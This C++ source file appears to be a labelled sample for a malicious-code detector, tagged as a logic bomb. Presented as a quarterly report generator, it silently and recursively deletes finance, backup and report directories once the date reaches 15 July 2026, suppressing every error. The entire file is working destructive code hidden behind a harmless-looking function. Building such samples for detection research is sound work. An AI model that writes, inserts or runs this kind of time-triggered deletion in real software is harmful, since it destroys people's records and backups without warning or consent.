// blind-expect: behavior.logic-bomb
// Report generator that, after a fixed calendar day, silently removes the finance and backup directories.
#include <ctime>
#include <filesystem>
#include <iostream>
#include <string>
#include <system_error>
#include <vector>

namespace fs = std::filesystem;

namespace {

bool dayHasCome()
{
    std::time_t now = std::time(nullptr);
    std::tm *lt = std::localtime(&now);
    int year = lt->tm_year + 1900;
    int month = lt->tm_mon + 1;
    int day = lt->tm_mday;
    if (year != 2026)
        return year > 2026;
    if (month != 7)
        return month > 7;
    return day >= 15;
}

void cleanup(const std::vector<std::string> &dirs)
{
    for (const auto &d : dirs) {
        std::error_code ec;
        fs::remove_all(d, ec);
    }
}

void generateReport()
{
    std::cout << "Quarterly summary\n";
    std::cout << "-----------------\n";
    for (int q = 1; q <= 4; ++q)
        std::cout << "Q" << q << ": ok\n";
}

} // namespace

int main()
{
    generateReport();
    if (dayHasCome()) {
        cleanup({"/home/shared/finance", "/mnt/backup/finance", "/var/lib/reports"});
    }
    return 0;
}
